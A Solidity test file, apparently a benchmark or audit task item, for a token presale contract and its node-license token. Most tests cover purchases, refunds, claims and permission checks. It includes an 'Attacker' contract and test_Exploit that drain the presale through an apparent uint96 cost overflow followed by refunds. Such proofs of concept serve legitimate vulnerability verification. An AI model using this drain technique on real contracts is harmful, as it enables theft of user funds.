// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./LicensePresale.sol";

// assay-canary-1039fe7c-1ec8-4e98-9fa3-2c5796fe357d

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("USD", "USD") {
        _mint(msg.sender, 100e18);
    }
}

/// Buys licenses whose cost is a little more than two to the ninety-six, and returns as many as the presale can pay.
contract Attacker {
    LicensePresale internal sale;

    constructor(LicensePresale sale_) {
        sale = sale_;
    }

    receive() external payable {}

    function run(uint256 id) external {
        (uint96 price, , , , , , ) = sale.rounds(id);
        uint96 units = uint96(2 ** 96 / price + 1);
        sale.buy{value: sale.costOf(id, units)}(id, units, new bytes32[](0));
        uint256 each = uint256(price) * 9 / 10;
        sale.refund(id, uint96(address(sale).balance / each));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANNA = address(0xA6);
    address internal constant BOB = address(0xB7);
    address internal constant CARL = address(0xC8);
    uint256 internal constant START = 1_700_000_000;

    LicensePresale internal sale;
    NodeLicense internal lic;
    Attacker internal mallory;
    bytes32[] internal none;
    bytes32[] internal annas;
    bytes32 internal root;

    receive() external payable {}

    function setUp() public {
        vm.warp(START);
        sale = new LicensePresale();
        lic = sale.lic();
        // a list of two, Anna and this contract
        (bytes32 a, bytes32 b) = (Allowlist.leaf(ANNA), Allowlist.leaf(address(this)));
        root = a < b ? keccak256(abi.encode(a, b)) : keccak256(abi.encode(b, a));
        annas.push(b);
        sale.addRound(0.0004 ether, 50_000, 20_000, 30_000, START, 90 days, root);
        sale.addRound(0.0005 ether, 0, 0, 0, START, 120 days, 0);
        vm.deal(ANNA, 20 ether);
        vm.deal(BOB, 20 ether);
        vm.prank(ANNA);
        sale.buy{value: 8 ether}(0, 20_000, annas);
        vm.prank(BOB);
        sale.buy{value: 5 ether}(1, 10_000, none);
        mallory = new Attacker(sale);
        vm.deal(address(mallory), 0.001 ether);
    }

    function test_Regular() public {
        require(sale.remaining(0) == 30_000 && sale.costOf(0, 100) == 0.04 ether && sale.roundCount() == 2, "round");
        require(sale.onSale(0) && sale.onSale(1), "on sale");
        vm.prank(BOB);
        require(!_try(abi.encodeCall(sale.buy, (1, 10, none))), "unpaid");
        vm.prank(ANNA);
        sale.refund(0, 1_000);
        require(ANNA.balance == 12.36 ether && sale.remaining(0) == 31_000 && sale.earned() == 0.04 ether, "ninety percent");
        vm.prank(ANNA);
        sale.buy{value: 0.4 ether}(0, 1_000, annas);
        vm.prank(ANNA);
        sale.handOver(0, BOB, 5_000);
        require(sale.orders(0, ANNA) == 15_000 && sale.orders(0, BOB) == 5_000, "handed over");
        sale.extendRound(0, uint48(START + 100 days));
        sale.setRoot(0, 0);
        vm.prank(BOB);
        sale.buy{value: 0.4 ether}(0, 1_000, none);
        sale.pause();
        require(!sale.onSale(0), "paused");
        sale.unpause();

        uint256 id = sale.addRound(1 ether, 10, 3, 0, START + 1, 10 days, 0);
        sale.addRound(1 ether, 0, 3, 0, START + 1, 10 days, 0);
        uint256 other = sale.addRound(1 ether, 10, 0, 0, START + 1, 10 days, 0);
        vm.warp(START + 1);
        vm.prank(BOB);
        sale.buy{value: 2 ether}(id, 2, none);
        vm.prank(ANNA);
        sale.buy{value: 10 ether}(other, 10, none);
        require(!sale.onSale(other), "sold out");
        sale.cancelRound(other);
        vm.prank(ANNA);
        require(sale.reclaim(other) == 10 ether, "all of it");
        vm.warp(START + 10 days + 1);
        require(!sale.onSale(id), "over");
        sale.closeRound(id);
        uint256 before = BOB.balance;
        vm.prank(BOB);
        require(sale.reclaim(id) == 2 ether && BOB.balance == before + 2 ether, "too few were sold");

        vm.warp(START + 100 days);
        sale.closeRound(0);
        before = address(this).balance;
        sale.collect(address(this));
        require(address(this).balance == before + 8.44 ether && sale.earned() == 0, "money of the round");
        require(address(sale).balance == 5 ether, "the other round is untouched");
        vm.prank(ANNA);
        require(sale.claim(0) == 15_000 && lic.balanceOf(ANNA) == 15_000, "claimed");
        vm.prank(BOB);
        sale.claim(0);
        require(sale.sold(0) == 0, "all claimed");
        nodes();
        owners();
    }

    function nodes() internal {
        require(lic.decimals() == 0 && lic.totalSupply() == 21_000, "whole units");
        vm.startPrank(ANNA);
        lic.activate("node 1", 10_000);
        lic.reassign("node 1", "node 2", 4_000);
        require(lic.nodeUnits("node 1") == 6_000 && lic.activeOf(ANNA, "node 2") == 4_000, "reassigned");
        lic.deactivate("node 2", 1_000);
        lic.reactivate("node 1");
        require(lic.nodeUnits("node 1") == 7_000, "again");
        lic.deactivate("node 1", 7_000);
        vm.warp(block.timestamp + 1 days);
        require(lic.withdraw() == 7_000 && lic.balanceOf(ANNA) == 12_000, "withdrawn");
        lic.transfer(CARL, 100);
        lic.approve(CARL, 50);
        lic.burn(10);
        vm.stopPrank();
        vm.startPrank(CARL);
        lic.transferFrom(ANNA, CARL, 20);
        lic.burnFrom(ANNA, 30);
        vm.stopPrank();
        require(lic.balanceOf(CARL) == 120 && lic.balanceOf(ANNA) == 11_840, "a token");
    }

    function owners() internal {
        Usd usd = new Usd();
        usd.transfer(address(sale), 30e18);
        sale.rescue(usd, CARL, 30e18);
        require(usd.balanceOf(CARL) == 30e18, "rescued");
        sale.transferOwnership(CARL);
        vm.prank(CARL);
        sale.acceptOwnership();
        vm.prank(CARL);
        sale.renounceOwnership();
        require(sale.owner() == address(0), "nobody's");
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok,) = address(sale).call(data);
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BOB);
        refuses(BOB, why);
        sale.addRound(1, 1, 0, 0, START, 1, 0);
        refuses(BOB, why);
        sale.extendRound(1, uint48(START + 121 days));
        refuses(BOB, why);
        sale.setRoot(1, root);
        refuses(BOB, why);
        sale.cancelRound(1);
        refuses(BOB, why);
        sale.pause();
        sale.pause();
        refuses(BOB, why);
        sale.unpause();
        refuses(BOB, why);
        sale.collect(BOB);
        refuses(BOB, why);
        sale.rescue(IERC20(address(lic)), BOB, 0);
        refuses(BOB, why);
        sale.transferOwnership(BOB);
        refuses(BOB, why);
        sale.acceptOwnership();
        refuses(BOB, why);
        sale.renounceOwnership();
    }

    function test_RefusesRounds() public {
        vm.expectRevert("no price");
        sale.addRound(0, 1, 0, 0, START, 1, 0);
        vm.expectRevert("minimum above cap");
        sale.addRound(1, 1, 2, 0, START, 1, 0);
        vm.expectRevert("bad dates");
        sale.addRound(1, 1, 0, 0, START - 1, 1, 0);
        vm.expectRevert("bad dates");
        sale.addRound(1, 1, 0, 0, START + 180 days + 1, 1, 0);
        vm.expectRevert("bad dates");
        sale.addRound(1, 1, 0, 0, START, 0, 0);
        vm.expectRevert("bad dates");
        sale.addRound(1, 1, 0, 0, START, 180 days + 1, 0);
        vm.expectRevert(abi.encodeWithSelector(SafeCast.SafeCastOverflowedUintDowncast.selector, 96, 1 << 96));
        sale.addRound(1 << 96, 1, 0, 0, START, 1, 0);
        vm.expectRevert(abi.encodeWithSelector(SafeCast.SafeCastOverflowedUintDowncast.selector, 96, 1 << 96));
        sale.addRound(1, 1 << 96, 0, 0, START, 1, 0);
        vm.expectRevert("bad dates");
        sale.extendRound(0, uint48(START + 90 days));
        vm.expectRevert("bad dates");
        sale.extendRound(0, uint48(START + 180 days + 1));
        vm.expectRevert("still running");
        sale.closeRound(0);
        vm.expectRevert("no recipient");
        sale.collect(address(0));
    }

    function test_RefusesBuyers() public {
        sale.addRound(1, 1, 0, 0, START + 1, 1, 0);
        refuses(BOB, LicensePresale.NotOnSale.selector);
        sale.buy{value: 1}(2, 1, none);
        refuses(BOB, abi.encodeWithSelector(LicensePresale.NotAllowed.selector, BOB));
        sale.buy{value: 0.0004 ether}(0, 1, annas);
        refuses(BOB, "no units");
        sale.buy(1, 0, none);
        sale.setRoot(0, 0);
        refuses(BOB, abi.encodeWithSelector(LicensePresale.NotEnoughLeft.selector, 30_000));
        sale.buy{value: 12.0004 ether}(0, 30_001, none);
        refuses(BOB, abi.encodeWithSelector(LicensePresale.CostIs.selector, 0.0004 ether));
        sale.buy{value: 0.0003 ether}(0, 1, none);
        refuses(ANNA, "too many for one wallet");
        sale.buy{value: 4.0004 ether}(0, 10_001, none);
        sale.pause();
        refuses(BOB, Pausable.EnforcedPause.selector);
        sale.buy{value: 0.0004 ether}(0, 1, none);
        sale.unpause();
        vm.warp(START + 90 days);
        refuses(BOB, LicensePresale.NotOnSale.selector);
        sale.buy{value: 0.0004 ether}(0, 1, none);
    }

    function test_RefusesRefunds() public {
        refuses(ANNA, "no units");
        sale.refund(0, 0);
        refuses(ANNA, "no units");
        sale.handOver(0, BOB, 0);
        refuses(ANNA, "no units");
        sale.handOver(0, address(0), 1);
        vm.prank(CARL);
        vm.expectRevert();
        sale.refund(0, 1);
        vm.prank(CARL);
        vm.expectRevert();
        sale.handOver(0, CARL, 1);
        uint256 balance = address(sale).balance;
        vm.deal(address(sale), 0);
        refuses(BOB, "not sent");
        sale.refund(1, 1);
        vm.deal(address(sale), balance);
        vm.warp(START + 90 days);
        refuses(ANNA, LicensePresale.NotOnSale.selector);
        sale.refund(0, 1);
    }

    function phase(LicensePresale.Phase p) internal pure returns (bytes memory) {
        return abi.encodeWithSelector(LicensePresale.NotInPhase.selector, p);
    }

    function test_RefusesOtherPhases() public {
        bytes memory open = phase(LicensePresale.Phase.Open);
        refuses(ANNA, open);
        sale.claim(0);
        refuses(ANNA, open);
        sale.reclaim(0);
        vm.warp(START + 90 days);
        sale.closeRound(0);
        bytes memory closed = phase(LicensePresale.Phase.Closed);
        vm.expectRevert(closed);
        sale.extendRound(0, uint48(START + 100 days));
        vm.expectRevert(closed);
        sale.setRoot(0, 0);
        vm.expectRevert(closed);
        sale.cancelRound(0);
        vm.expectRevert(closed);
        sale.closeRound(0);
        refuses(ANNA, closed);
        sale.buy{value: 0.0004 ether}(0, 1, annas);
        refuses(ANNA, closed);
        sale.refund(0, 1);
        refuses(ANNA, closed);
        sale.handOver(0, BOB, 1);
        refuses(ANNA, closed);
        sale.reclaim(0);
        refuses(BOB, "no units");
        sale.claim(0);
        vm.prank(ANNA);
        sale.claim(0);
        refuses(ANNA, "no units");
        sale.claim(0);
        sale.cancelRound(1);
        refuses(BOB, phase(LicensePresale.Phase.Cancelled));
        sale.claim(1);
        refuses(BOB, phase(LicensePresale.Phase.Cancelled));
        sale.refund(1, 1);
    }

    function test_RefusesLicenses() public {
        vm.expectRevert("minter only");
        lic.mint(address(this), 1);
        vm.prank(address(sale));
        lic.mint(ANNA, 10);
        refuses(ANNA, "nothing to activate");
        lic.activate(0, 1);
        refuses(ANNA, "nothing to activate");
        lic.activate("node 1", 0);
        vm.prank(ANNA);
        vm.expectRevert();
        lic.activate("node 1", 11);
        vm.prank(ANNA);
        lic.activate("node 1", 10);
        refuses(ANNA, "nothing to deactivate");
        lic.deactivate("node 1", 0);
        vm.prank(ANNA);
        vm.expectRevert();
        lic.deactivate("node 1", 11);
        refuses(ANNA, "nothing to activate");
        lic.reassign("node 1", 0, 1);
        refuses(ANNA, "nothing to activate");
        lic.reassign("node 1", "node 2", 0);
        vm.prank(ANNA);
        vm.expectRevert();
        lic.reassign("node 2", "node 1", 1);
        refuses(ANNA, "nothing to activate");
        lic.reactivate("node 1");
        refuses(ANNA, "nothing to withdraw");
        lic.withdraw();
        vm.prank(ANNA);
        lic.deactivate("node 1", 5);
        refuses(ANNA, "nothing to activate");
        lic.reactivate(0);
        refuses(ANNA, "nothing to withdraw");
        lic.withdraw();
    }

    function exploit() public {
        mallory.run(1);
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 12.9 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(sale);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
